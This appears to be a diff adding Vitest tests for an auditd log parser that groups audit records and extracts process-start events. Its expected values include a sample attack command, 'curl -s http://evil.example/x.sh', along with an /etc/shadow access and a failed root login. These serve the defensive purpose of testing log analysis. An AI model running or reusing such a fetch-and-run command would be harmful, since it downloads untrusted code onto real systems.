@@ -1,0 +1,51 @@
+import { describe, it, expect } from 'vitest';
+import { readFileSync } from 'node:fs';
+import { parseAuditLine, isAuditLine } from './auditd.js';
+import { AuditAssembler, type AuditGroup } from './audit-group.js';
+import { auditLogFields, auditExec } from './audit-events.js';
+
+const lines = readFileSync(new URL('./fixtures/audit.log', import.meta.url), 'utf8').split('\n').filter(Boolean);
+
+function groups(): AuditGroup[] {
+  const out: AuditGroup[] = [];
+  const a = new AuditAssembler({ idleMs: 1000, maxOpen: 64, maxRecords: 64 }, (g) => out.push(g));
+  let offset = 0;
+  for (const line of lines) {
+    expect(isAuditLine(line)).toBe(true);
+    a.add(parseAuditLine(line)!, line, offset);
+    offset += line.length + 1;
+  }
+  a.flushAll();
+  return out;
+}
+
+describe('auditd records', () => {
+  it('parses key=value, quoted, hex-encoded and enriched fields', () => {
+    const r = parseAuditLine(lines[0]!)!;
+    expect(r).toMatchObject({ type: 'SYSCALL', time: '1700000000.123', serial: '501' });
+    expect(r.fields).toMatchObject({ syscall: '59', pid: '4001', exe: '/usr/bin/curl', key: 'exec', SYSCALL: 'execve', AUID: 'alice' });
+    expect(parseAuditLine(lines[1]!)!.fields.a2).toBe('http://evil.example/x.sh');
+    const login = parseAuditLine(lines.find((l) => l.includes('USER_LOGIN'))!)!;
+    expect(login.fields).toMatchObject({ op: 'login', acct: 'root', addr: '203.0.113.9', res: 'failed', UID: 'root' });
+  });
+
+  it('groups records by serial, even interleaved, and closes groups on EOE', () => {
+    const gs = groups();
+    // 503 (USER_LOGIN) has no EOE: it stays open until idle or flushed.
+    expect(gs.map((g) => g.serial)).toEqual(['501', '502', '600', '503']);
+    expect(gs[0]!.records.map((r) => r.type)).toEqual(['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE']);
+    expect(gs[1]!.records.map((r) => r.type)).toEqual(['SYSCALL', 'PATH']);
+    const f = auditLogFields(gs[0]!);
+    expect(f.action).toBe('execve');
+    expect(f.fields).toMatchObject({ serial: '501', 'path.1.name': '/lib64/ld-linux-x86-64.so.2', 'cwd.cwd': '/home/alice', 'proctitle.proctitle': 'curl -s http://evil.example/x.sh', user: 'alice', key: 'exec' });
+    expect(auditLogFields(gs[1]!).fields).toMatchObject({ 'path.0.name': '/etc/shadow', result: 'no', key: 'shadow' });
+    expect(auditLogFields(gs[3]!)).toMatchObject({ action: 'user_login', fields: { src_ip: '203.0.113.9', acct: 'root' } });
+  });
+
+  it('turns EXECVE/SYSCALL/CWD into a process start', () => {
+    const gs = groups();
+    expect(auditExec(gs[0]!)).toMatchObject({ pid: 4001, ppid: 4000, uid: 1000, exe: '/usr/bin/curl', argv: ['curl', '-s', 'http://evil.example/x.sh'], cwd: '/home/alice', tty: 'pts/0', sessionId: 3, timeNs: 1_700_000_000_123_000_000n });
+    expect(auditExec(gs[1]!)).toBeUndefined();
+    expect(auditExec(gs[2]!)).toMatchObject({ argv: ['python3', '-cprint(1)'], sessionId: 0, tty: '' });
+  });
+});
